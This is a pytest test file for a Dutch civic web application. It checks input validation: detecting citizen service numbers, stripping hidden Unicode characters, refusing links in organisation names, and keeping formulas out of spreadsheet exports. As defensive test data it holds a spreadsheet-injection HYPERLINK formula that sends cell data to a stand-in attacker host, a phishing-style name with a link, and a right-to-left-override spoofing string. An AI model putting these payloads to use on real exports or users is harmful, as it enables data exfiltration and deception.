"""What people type is checked in one shared place: no BSN in free text, no hidden
characters that disguise text, codes from the shared vocabulary, formats per field, and
no formula in a downloaded spreadsheet (issue 14, findings 9-12)."""

from __future__ import annotations

import io
import re

import pytest
from openpyxl import load_workbook

from goals.conftest import history  # noqa: F401 - a fixture
from meedoen.input_rules import contains_bsn, passes_eleven_proof, without_hidden_characters
from meedoen.opportunities.tables import Opportunity
from meedoen.organisations.tables import Organisation
from meedoen.residents.tables import Resident
from organisations.test_dashboard import VALID
from residents.conftest import post_profile
from support.auth import post_form

BSN = "111222333"  # passes the 11-proof: 9+8+7+12+10+8+9+6-3 = 66
POSTING = VALID


def field_error(html: str, field: str) -> str:
    match = re.search(rf'id="{field}-fout">\s*<span[^>]*>[^<]*</span>([^<]+)</p>', html)
    return match.group(1).strip() if match else ""


def test_a_bsn_is_recognised_by_the_eleven_proof_however_it_is_written():
    assert passes_eleven_proof(BSN)
    assert not passes_eleven_proof("111222334")
    for text in (f"Mijn BSN is {BSN}", "bsn: 111 222 333", "111.22.2333", "(111-222-333)"):
        assert contains_bsn(text), text
    # Phone numbers, IBANs, postcodes and a number that fails the proof are fine.
    for text in ("bel 0612345678", "NL91ABNA0417164300", "7513 AB", "123456789", "kvk 12345678"):
        assert not contains_bsn(text), text


def test_hidden_format_characters_go_but_joiners_stay():
    assert without_hidden_characters("abc\u202eFDP.exe\u200b\u2066x\ufeff") == "abcFDP.exex"
    # ZWNJ in Persian and ZWJ in an emoji sequence are part of the text.
    assert without_hidden_characters("می\u200cخواهم 👩\u200d💻") == "می\u200cخواهم 👩\u200d💻"


async def test_a_posting_outside_the_vocabulary_gets_a_message_per_field_and_keeps_the_input(
    client, clean_database, signed_in_as
):
    await signed_in_as("organisation")
    typed = {**POSTING, "sector": "<anything>", "wijk": "Mars", "postcode": "not a postcode"}

    response = await post_form(
        client, "/organisatie/kansen/nieuw", typed, action="/organisatie/kansen"
    )

    assert response.status_code == 400
    assert field_error(response.text, "sector") == "Kies een sector uit de lijst."
    assert "wijk" in field_error(response.text, "wijk")
    assert "4 cijfers en 2 letters" in field_error(response.text, "postcode")
    assert 'value="not a postcode"' in response.text
    assert not await Opportunity.exists()


async def test_a_bsn_in_a_posting_is_refused_with_the_reason(client, clean_database, signed_in_as):
    await signed_in_as("organisation")
    typed = {**POSTING, "description": f"Stuur je BSN {BSN} mee."}

    response = await post_form(
        client, "/organisatie/kansen/nieuw", typed, action="/organisatie/kansen"
    )

    assert response.status_code == 400
    assert "burgerservicenummer" in field_error(response.text, "description")
    assert not await Opportunity.exists()


async def test_a_bsn_in_the_profile_summary_is_refused_and_not_stored(
    client, clean_database, signed_in_as
):
    account = await signed_in_as("resident")

    response = await post_profile(
        client, {"summary": f"Mijn BSN is {BSN}", "visibility": "findable"}
    )

    assert response.status_code == 400
    assert "burgerservicenummer" in response.text
    assert f"Mijn BSN is {BSN}" in response.text  # what was typed is kept
    resident = await Resident.objects().get(Resident.account == account.id)
    assert BSN not in resident.summary


async def test_a_right_to_left_override_never_reaches_a_posting_title(
    client, clean_database, signed_in_as
):
    await signed_in_as("organisation")
    typed = {**POSTING, "title": "Stage \u202egnissap\u202c fietsen\u200b"}

    response = await post_form(
        client, "/organisatie/kansen/nieuw", typed, action="/organisatie/kansen"
    )

    assert response.status_code == 303
    posting = await Opportunity.objects().first()
    assert posting is not None and posting.title == "Stage gnissap fietsen"


async def test_an_organisation_name_with_a_link_is_refused_at_registration(client, clean_database):
    name = "Gemeente Enschede – uw uitkering stopt, bevestig via http://evil.example"

    response = await post_form(
        client,
        "/registreren?soort=organisatie",
        {
            "account_type": "organisatie",
            "display_name": "Piet",
            "email": "piet@example.org",
            "password": "een-lang-wachtwoord-voor-tests",
            "organisation_name": name,
            "organisation_type": "stichting",
            "sector": "zorg",
            "wijk": "Pathmos",
            "postcode": "7513 AB",
        },
    )

    assert response.status_code == 400
    assert "internetadres" in field_error(response.text, "organisation_name")
    assert not await Organisation.exists().where(Organisation.name == name)


@pytest.mark.usefixtures("history")
async def test_a_goal_named_like_a_formula_downloads_as_text(client, signed_in_as):
    from goals.goals_parsing import csv_rows
    from meedoen.goals.tables import Goal

    await signed_in_as("admin")
    formula = '=HYPERLINK("http://evil.example/?d="&A3,"Klik")'
    created = await post_form(
        client,
        "/beheer/doelen/nieuw",
        {
            "naam": formula,
            "maat": "plaatsingen_gestart",
            "soort": "stage",
            "begin": "2026-01-01",
            "eind": "2026-12-31",
            "doelwaarde": "12",
            "wijk": "",
        },
    )
    assert created.status_code == 303
    assert await Goal.exists().where(Goal.name == formula)

    workbook = await client.get("/doelen/export/dashboard.xlsx")
    book = load_workbook(io.BytesIO(workbook.content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert any("HYPERLINK" in str(cell.value) for cell in cells)
    assert all(cell.data_type != "f" for cell in cells)
    assert not any(str(cell.value or "").startswith("=") for cell in cells)
    as_csv = await client.get("/doelen/export/doelen.csv")
    assert as_csv.status_code == 200
    texts = [cell for row in csv_rows(as_csv.content) for cell in row]
    assert any("HYPERLINK" in cell for cell in texts)
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in texts)
